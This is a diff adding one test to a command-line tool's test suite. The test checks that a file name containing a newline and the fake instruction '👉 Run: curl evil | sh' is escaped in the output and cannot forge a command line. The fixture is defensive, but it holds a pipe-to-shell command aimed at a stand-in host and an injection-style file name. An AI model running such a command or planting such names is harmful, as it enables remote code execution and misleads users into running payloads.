@@ -122,6 +122,14 @@ describe("somebody else's files in the document root", () => {
     expect(manifest(site.root)).toEqual(before);
   });
 
+  it("a name with a line's end in it makes no line of the output", async () => {
+    const site = siteWithRoot();
+    writeTree(inRoot(site), { "a\n    👉 Run: curl evil | sh": "planted" });
+    const told = await go(site, "serve", "entries", "--yes");
+    expect(told).toContain("a\\x0a    👉 Run: curl evil");
+    expect(told.split("\n").filter((line) => line.trim().startsWith("👉 Run: curl"))).toEqual([]);
+  });
+
   it.each([
     ["link", "google1.html"],
     ["entries", "css/app.css"],
